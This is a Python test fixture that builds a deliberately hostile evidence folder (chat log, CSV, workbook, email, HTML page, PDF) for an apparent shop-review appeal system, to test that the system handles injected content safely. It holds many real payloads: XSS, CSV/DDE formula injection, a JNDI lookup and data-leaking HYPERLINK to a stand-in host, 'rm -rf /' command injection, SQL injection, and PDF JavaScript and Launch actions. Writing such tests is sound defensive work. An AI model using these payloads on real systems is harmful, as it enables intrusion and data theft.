"""A case whose evidence tries everything: markup, scripts, links, formulas, commands, and signs that steer."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from pathlib import Path

import pikepdf
import xlsxwriter

from tests.e2e.conftest import ORDER as COLUMNS

__all__ = ["HOSTILE", "ORDER", "make"]

ORDER = COLUMNS["订单号"]
HOSTILE = (
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">退款</a>',
    '<img src="file:///etc/passwd"/><para><font name="x">',
    "<b>&lt;&amp;&#0;</i>{{7*7}}${jndi:ldap://example.invalid/a}",
    '=HYPERLINK("http://example.invalid/?"&A1,"发货")',
    "=cmd|' /C calc'!A0",
    "+86 139 @SUM(1+1)*cmd|x",
    "-2+3;=1+1",
    "@echo off",
    "＝1＋1",
    "javascript:alert(1) http://example.invalid/a file:///etc/passwd",
    "\u202egpj.exe\u202c\u2066\u200b\u200d\ufeff\u00ad",
    "\x1b[2J\x1b[31m\x1b]0;title\x07\x9b31m\x7f\x08\x0c",
    ") Tj ET /F1 12 Tf (\\) >> endobj <</S/URI/URI(http://example.invalid)>>",
    "`rm -rf ~` $(touch pwned) ; rm -rf / & del C:\\",
    "%s%n%x {0} {name} {0.__class__} %(a)s",
    "e\u0301" * 50 + "\u0489" * 30,
    "'; DROP TABLE a; --",
)


def make(folder: Path) -> Path:
    """The case folder. Names of files are hostile as well, as far as the system takes them."""
    inbox = folder / "inbox"
    inbox.mkdir(parents=True)
    (folder / "case.toml").write_text(_case(), encoding="utf-8")
    (inbox / "聊天.txt").write_text(_chat(HOSTILE), encoding="utf-8")
    (inbox / "订单.csv").write_bytes(_orders())
    (inbox / "=cmd|' C calc'!A0.xlsx").write_bytes(_workbook())
    (inbox / "<script>alert(1)<%2Fscript>.eml").write_bytes(_mail())
    (inbox / "\x1b[31m红\n第二行\u202egnp.html").write_bytes(_page())
    (inbox / "script.pdf").write_bytes(_pdf())
    return folder


def _case() -> str:
    lines = ["[case]\nplatform = \"xiaohongshu_shop_review\"\ntitle = '申诉 <script>alert(1)</script> =1+1'"]
    lines += ["[applicant]\nname = '<b>店</b> =cmd'\n[review]\nauthor = '<img src=x onerror=alert(1)>'"]
    lines += [f'posted = "2026-03-16 21:14"\norder_id = "{ORDER}"\ntext = \'=cmd 一周都没发货<script>\'']
    lines += ["[[claims]]\nsays = '一周都没发货'\nanswer = '=HYPERLINK(1) <a href=\"javascript:1\">发货</a>'"]
    lines += ['stance = "contradicted"\nevidence = ["聊天.txt"]\nquotes = ["<script>alert(1)</script>"]']
    lines += ["[[people]]\nname = '=林小姐'\nside = \"customer\""]
    return "\n".join(lines)


def _chat(texts: Iterable[str]) -> str:
    said = "\n\n".join(f"=林小姐  10:{at:02}\n\n{text}" for at, text in enumerate(texts))
    return f"=林小姐 和 阿青 在微信上的聊天记录如下，请查收。\n\n—————  2026-03-12  —————\n\n\n{said}\n"


def _orders() -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    row = {
        **COLUMNS,
        "订单状态": HOSTILE[5],
        "SKU名称": HOSTILE[0],
        "快递公司": HOSTILE[4],
        "快递单号": "=SF3006662992881",
    }
    writer.writerow(row)
    writer.writerow(row.values())
    return out.getvalue().encode("utf-8-sig")


def _workbook() -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    sheet = book.add_worksheet("=1+1")
    for column, name in enumerate(["订单号", "订单状态", "商品名称", "订单创建时间"]):
        sheet.write_string(0, column, name)
    sheet.write_string(1, 0, ORDER)
    sheet.write_formula(1, 1, '=HYPERLINK("http://example.invalid","x")', value=HOSTILE[5])
    sheet.write_formula(1, 2, "='file:///etc/[passwd]a'!A1", value=HOSTILE[1])
    sheet.write_string(1, 3, "2026-03-11 01:23:58")
    sheet.write_url(2, 0, "http://example.invalid/")
    book.close()
    return out.getvalue()


def _mail() -> bytes:
    body = "".join(f"<p>{text}</p>" for text in HOSTILE[:8])
    head = f'From: "=cmd <script>" <a@example.invalid>\r\nTo: b@example.invalid\r\nSubject: {HOSTILE[4]}\r\n'
    head += (
        "Date: Thu, 12 Mar 2026 10:00:00 +0800\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n"
    )
    parts = f"--x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{body}<img src='http://example.invalid/a.png'>\r\n"
    parts += (
        "--x\r\nContent-Type: text/html; name=\"a.hta\"\r\n\r\n<script>new ActiveXObject('a')</script>\r\n--x--\r\n"
    )
    return f"{head}\r\n{parts}".encode()


def _page() -> bytes:
    links = "<link rel=stylesheet href=http://example.invalid/a.css><iframe src=file:///etc/passwd></iframe>"
    return f"<!DOCTYPE html><html><body>{links}{''.join(HOSTILE)}<script src=//example.invalid/a.js></script>".encode()


def _pdf() -> bytes:
    """Every kind of action that a PDF can hold."""
    from reportlab.pdfgen.canvas import Canvas

    drawn, out = io.BytesIO(), io.BytesIO()
    canvas = Canvas(drawn, invariant=1)
    canvas.drawString(72, 720, "2026-03-12 08:35:21 shipped")
    canvas.linkURL("http://example.invalid/", (72, 700, 200, 712))
    canvas.showPage()
    canvas.save()
    with pikepdf.open(drawn) as pdf:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        pdf.Root.OpenAction = script
        pdf.Root.AA = pikepdf.Dictionary(WC=script)
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA="<xdp/>")
        page = pdf.pages[0].obj
        page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"))
        page.Annots.append(
            pdf.make_indirect(
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 99, 99],
                    A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://example.invalid/"),
                )
            )
        )  # fmt: skip
        pdf.attachments["a.exe"] = b"MZ"
        pdf.save(out)
    return out.getvalue()
